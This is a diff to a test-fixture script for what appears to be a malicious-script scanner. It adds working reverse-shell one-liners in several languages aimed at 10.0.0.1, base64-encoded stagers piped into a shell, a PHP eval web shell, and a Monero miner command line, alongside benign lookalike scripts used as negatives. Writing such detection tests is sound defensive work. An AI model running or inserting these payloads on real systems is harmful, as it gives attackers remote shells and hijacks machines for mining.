@@ -144,6 +144,20 @@ cat >"$S/node_rev" <<'E'
   client.connect(4242, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
   return /a/; })();
 E
+# encoded stagers, and shells in languages and tools without a rule of their own
+printf '#!/bin/sh\necho YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash\n' >"$S/b64_pipe"
+printf '#!/bin/sh\neval "$(printf %%s aWQ7dW5hbWUgLWEK | base64 --decode)"\n' >"$S/b64_eval"
+printf '#!/usr/bin/env python3\nimport base64,zlib\nexec(zlib.decompress(base64.b64decode(b"eJwrzs9NLcnMz1PILS1OVcjJTM4vyo9PKi0uVgjOz0stKMnMz1NISU3OzAYAH4kNbw==")))\n' >"$S/py_b64"
+printf '<?php @eval(gzinflate(base64_decode($_POST["z"]))); ?>\n' >"$S/php_eval"
+printf '#!/bin/sh\nlua -e "local s=require(\\"socket\\"); local t=s.tcp(); t:connect(\\"10.0.0.1\\",4242); os.execute(\\"/bin/sh -i <&3 >&3 2>&3\\")"\n' >"$S/lua_rev"
+printf '#!/bin/sh\nmkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s\n' >"$S/openssl_rev"
+printf '#!/usr/bin/zsh\nzmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY\n' >"$S/zsh_rev"
+cat >"$S/awk_rev" <<'E'
+#!/bin/sh
+awk 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4242"; while (42) { do { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != "exit"); close(s) } }' /dev/null
+E
+printf '#!/usr/bin/env python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4242))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn("sh")\n' >"$S/py_pty_loop"
+printf '#!/bin/sh\nexec /tmp/.x/kthreadd -o gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p w1 --cpu-max-threads-hint 50\n' >"$S/miner_cmd"
 cat >"$S/miner_start" <<'E'
 #!/bin/sh
 cd /opt/.cache && ./kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x -k --donate-level=1
@@ -180,7 +194,10 @@ for s in bash_i:revshell_bash_dev_tcp bash_fd:revshell_bash_dev_tcp bash_loop:re
     bash_dup:revshell_bash_dev_tcp nc_fifo:revshell_netcat_pipe nc_e:revshell_netcat_pipe \
     ncat_exec:revshell_netcat_pipe socat_sh:revshell_socat py_rev:revshell_python \
     py_oneliner:revshell_python perl_rev:revshell_perl perl_io:revshell_perl php_rev:revshell_php \
-    ruby_rev:revshell_ruby node_rev:revshell_node miner_start:miner_stratum_url; do
+    ruby_rev:revshell_ruby node_rev:revshell_node miner_start:miner_stratum_url \
+    b64_pipe:stager_decode_to_shell b64_eval:stager_decode_to_shell py_b64:stager_eval_decoded \
+    php_eval:stager_eval_decoded lua_rev:revshell_fd_shell openssl_rev:revshell_openssl \
+    zsh_rev:revshell_zsh awk_rev:revshell_awk py_pty_loop:revshell_python miner_cmd:miner_command_line; do
     n=${s%%:*}
     printf 'opt/scripts/%s\t0644\t%s\n' "$n" "$S/$n" >>"$T/pos4.tsv"
     printf '/opt/scripts/%s %s script script\n' "$n" "${s#*:}" >>"$T/expect.txt"
@@ -301,6 +318,13 @@ printf '#!/bin/sh\n# health check\nnc -z -w 2 localhost 8080 || exit 1\necho ok 
 printf '#!/usr/bin/env python3\nimport socket, os, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("localhost", 6379))\nos.dup2(sys.stdout.fileno(), 2)\nprint(s.recv(10))\n' >"$N/py_client"
 printf '#!/bin/sh\nexec socat TCP-LISTEN:8080,fork,reuseaddr TCP:backend:80\n' >"$N/socat_proxy"
 printf '#!/bin/sh\n# see docs: stratum pools are not used here\nexec /usr/bin/app --pools-file /etc/app/pools.json\n' >"$N/app_start"
+# ... that decode base64 into a file or a pipe that is not a shell, read a certificate over TLS,
+# talk HTTP from gawk, or name a pool in a plain option
+printf '#!/bin/sh\necho "$BUNDLE" | base64 -d | tar -xz -C /opt/app\nbase64 --decode /etc/app/key.b64 > /run/app/key\nopenssl base64 -d -in cert.b64 -out cert.der\n' >"$N/b64_unpack"
+printf '#!/usr/bin/env python3\nimport base64, json\nconfig = json.loads(base64.b64decode(open("/etc/app/config.b64").read()))\nexec_mode = config.get("mode")\n' >"$N/py_config"
+printf '#!/bin/sh\nopenssl s_client -connect "$HOST:443" -servername "$HOST" </dev/null 2>/dev/null | openssl x509 -noout -enddate\n' >"$N/cert_check"
+printf '#!/usr/bin/gawk -f\nBEGIN { s = "/inet/tcp/0/example.org/80"; print "GET / HTTP/1.0\\r\\n\\r" |& s; while ((s |& getline line) > 0) print line; close(s) }\n' >"$N/gawk_http"
+printf '#!/bin/sh\nexec /usr/bin/backup -o s3.example.com:443 -u backup-user --algo zstd\n' >"$N/backup_opts"
 for f in "$N"/*; do
     printf 'usr/local/bin/%s\t0755\t%s\n' "$(basename "$f")" "$f" >>"$T/neg2.tsv"
 done
